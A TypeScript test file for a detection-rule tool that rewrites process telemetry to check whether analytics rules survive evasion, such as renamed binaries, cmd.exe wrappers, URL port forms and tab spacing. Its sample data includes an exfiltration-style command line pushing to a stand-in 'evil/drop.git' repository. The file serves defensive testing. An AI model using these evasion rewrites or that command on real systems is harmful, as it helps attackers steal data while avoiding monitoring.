// A rewrite changes every row of a process, in all sensors, and what is missed is counted and explained.
import { describe, expect, test } from 'vitest';
import { families } from '../../src/evasion/families/index.ts';
import { parseEvasionGaps } from '../../src/evasion/gaps.ts';
import { rewrittenSeed } from '../../src/evasion/processes.ts';
import { judgedEvasion } from '../../src/evasion/score.ts';
import { createTableCatalogue } from '../../src/tables/catalogue.ts';
import { parseCaseFile } from '../../src/testing/case-file.ts';
import { rowsAt } from '../../src/testing/case-rows.ts';
import { ruleText } from '../content/a-rule.ts';
import { createProject } from '../stories/command-line.ts';

const tables = createTableCatalogue();

/** The rows of the first case of a file, rewritten. */
function rowsOf(seed: string, id: string) {
  const { cases } = parseCaseFile(`cases: [{ name: one, seed: ${seed}, alerts: 1 }]`, {
    file: 'cases.yaml',
    kind: 'analytics-rule',
    tables,
    readSeedFile: () => ({ file: '', text: '' }),
  });
  const [one] = cases;
  const [name, rewriteName] = id.split('/');
  const family = families.find((all) => all.name === name)!;
  const rewrite = family.rewrites.find((all) => all.name === rewriteName)!;
  const rewritten = rewrittenSeed(one!.seed, family, rewrite);
  return rewritten && rowsAt({ seed: rewritten }, one!.now);
}

const chain = `{ DeviceProcessEvents: [
  { FileName: git.exe, ProcessId: 7, ProcessCommandLine: git push origin, InitiatingProcessFileName: cmd.exe, InitiatingProcessCommandLine: cmd.exe, InitiatingProcessId: 1 },
  { FileName: git.exe, ProcessId: 8, ProcessCommandLine: 'git remote-https origin https://github.com/evil/drop.git', InitiatingProcessFileName: git.exe, InitiatingProcessCommandLine: git push origin, InitiatingProcessId: 7 }],
  ASimProcessEventLogs: [{ TargetProcessName: 'C:\\Git\\git.exe', TargetProcessCommandLine: git push origin, ActingProcessName: 'C:\\Windows\\cmd.exe', ActingProcessCommandLine: cmd.exe }] }`;

describe('the rows of a process', () => {
  test('are rewritten in every sensor, and where it started another', () => {
    expect(rowsOf(chain, 'image-name/plain')).toMatchObject({
      DeviceProcessEvents: [
        {
          FileName: 'updater.exe',
          ProcessCommandLine: 'updater.exe push origin',
          ProcessVersionInfoOriginalFileName: 'git.exe',
        },
        {
          FileName: 'git.exe',
          InitiatingProcessFileName: 'updater.exe',
          InitiatingProcessCommandLine: 'updater.exe push origin',
        },
      ],
      ASimProcessEventLogs: [
        {
          TargetProcessName: 'C:\\Git\\updater.exe',
          TargetProcessCommandLine: 'updater.exe push origin',
          TargetProcessFileOriginalName: 'git.exe',
        },
      ],
    });
  });

  test('that git writes itself change with an address only', () => {
    const [push, helper] = rowsOf(chain, 'url-form/port')!['DeviceProcessEvents']!;
    expect(push).toMatchObject({ ProcessCommandLine: 'git push origin' });
    expect(helper).toMatchObject({
      ProcessCommandLine: 'git remote-https origin https://github.com:443/evil/drop.git',
    });
    expect(rowsOf(chain, 'letter-case/image-upper')!['DeviceProcessEvents']![1]).toMatchObject({
      ProcessCommandLine: 'git remote-https origin https://github.com/evil/drop.git',
    });
  });

  test('become those of what starts it, with the command below or alone', () => {
    const both = rowsOf(chain, 'wrapper/cmd-and-command')!;
    expect(both['DeviceProcessEvents']).toMatchObject([
      {
        FileName: 'cmd.exe',
        ProcessId: 900000,
        ProcessCommandLine: 'cmd.exe /c git push origin',
        InitiatingProcessId: 1,
      },
      {
        FileName: 'git.exe',
        ProcessId: 7,
        ProcessCommandLine: 'git push origin',
        InitiatingProcessId: 900000,
        InitiatingProcessCommandLine: 'cmd.exe /c git push origin',
      },
      { ProcessId: 8, InitiatingProcessCommandLine: 'git push origin' },
    ]);
    expect(both['ASimProcessEventLogs']).toMatchObject([
      { TargetProcessId: '900000' },
      { ActingProcessId: '900000' },
    ]);
    expect(rowsOf(chain, 'wrapper/cmd')!['DeviceProcessEvents']).toMatchObject([
      { FileName: 'cmd.exe', ProcessCommandLine: 'cmd.exe /c git push origin' },
      { ProcessId: 8 },
    ]);
  });

  test('stay where nothing could be spelled so', () => {
    expect(rowsOf(chain, 'wrapper/sudo')).toBeUndefined();
    expect(
      rowsOf("{ SigninLogs: [{ UserPrincipalName: 'jdoe@contoso.com' }] }", 'url-form/port'),
    ).toBeUndefined();
  });
});

const miss = { case: 'one', rewrite: 'spacing/tabs', before: 'a b', after: 'a\tb', alerts: 0 };
const item = {
  id: 'i',
  name: 'n',
  file: 'a.yaml',
  total: 8,
  notApplicable: 3,
  families: [{ name: 'spacing', total: 8, seen: 7 }],
  misses: [miss],
};
const gaps = (rewrite: string) =>
  parseEvasionGaps(
    `gaps:\n  - { item: a.yaml, rewrite: ${rewrite}, reason: tabs }\n`,
    'test/evasion-gaps.yaml',
  );

describe('gaps', () => {
  test('explain a miss, which still counts', () => {
    const { results, diagnostics } = judgedEvasion([item], gaps('spacing/tabs'));
    expect(results).toMatchObject({ total: 8, seen: 7, missed: 1, notApplicable: 3, score: 87.5 });
    expect(results.rules[0]!.misses).toEqual([{ ...miss, reason: 'tabs' }]);
    expect(diagnostics).toEqual([]);
  });

  test('of what is seen are reported, and so are those without a reason', () => {
    expect(judgedEvasion([item], gaps('spacing/blanks')).diagnostics).toMatchObject([
      { code: 'evasion/bad-gap', file: 'test/evasion-gaps.yaml', line: 2 },
    ]);
    expect(parseEvasionGaps('gaps: [{ item: a }]', 'x.yaml').diagnostics).toMatchObject([
      { code: 'evasion/bad-gap' },
    ]);
  });
});

describe('test --evade', () => {
  const query = `DeviceProcessEvents | where FileName =~ 'git.exe' and ProcessCommandLine has 'push' and ProcessCommandLine !contains '  '`;
  const cases = `cases:
  - name: a push
    tier: A
    seed: { DeviceProcessEvents: [{ FileName: git.exe, ProcessCommandLine: git push https://github.com/evil/drop.git }] }
    alerts: 1
`;
  const project = () =>
    createProject({
      'analytics-rules/push.yaml': ruleText({ query: `|\n  ${query}` }),
      'test/analytics-rules/push/cases.yaml': cases,
      'test/evasion-gaps.yaml':
        'gaps: [{ item: analytics-rules/push.yaml, rewrite: image-name/plain, reason: The rule goes by the name }]\n',
    });

  test('shows what is missed, and the table of detections and families', async () => {
    const opened = project();
    try {
      const { code, stdout } = await opened.run('test --evade');
      expect(code).toBe(0);
      expect(stdout).toMatch(
        /missed analytics-rules\/push.yaml image-name\/plain: 1 missed, such as updater.exe push \S+ \(The rule goes by the name\)/,
      );
      expect(stdout).toMatch(/missed analytics-rules\/push.yaml spacing\/blanks: 1 missed/);
      expect(stdout).toMatch(/detection +seen +% .* a renamed image +/);
      expect(stdout).toMatch(/Rewrites: \d+ of \d+ seen, \d+ missed, \d+ not applicable: [\d.]+ %\./);
      const low = await opened.run('test --evade --min-score 99');
      expect(low.code).toBe(1);
      expect(low.stdout).toContain('evasion/low-score');
      const alone = await opened.run('test --evasion-record x.json');
      expect(alone.code).toBe(3);
      expect(alone.stderr).toContain('--evasion-record needs --evade');
    } finally {
      opened.dispose();
    }
  });

  test('gives JSON of one shape', async () => {
    const opened = project();
    try {
      const { evasion } = await opened.json<{ evasion: Record<string, unknown> }>('test --evade');
      const counts = {
        total: expect.any(Number),
        seen: expect.any(Number),
        missed: expect.any(Number),
        notApplicable: expect.any(Number),
        score: expect.any(Number),
      };
      const ofFamilies = families.map(({ name }) => ({
        name,
        total: expect.any(Number),
        seen: expect.any(Number),
      }));
      expect(evasion).toEqual({
        ...counts,
        families: ofFamilies,
        rules: [
          {
            id: expect.any(String),
            name: expect.any(String),
            file: 'analytics-rules/push.yaml',
            ...counts,
            families: ofFamilies,
            misses: expect.any(Array),
          },
        ],
      });
      const [rule] = evasion['rules'] as { misses: unknown[] }[];
      expect(rule!.misses).toContainEqual({
        case: 'a push',
        rewrite: 'image-name/plain',
        before: 'git push https://github.com/evil/drop.git',
        after: 'updater.exe push https://github.com/evil/drop.git',
        alerts: 0,
        reason: 'The rule goes by the name',
      });
    } finally {
      opened.dispose();
    }
  });
});
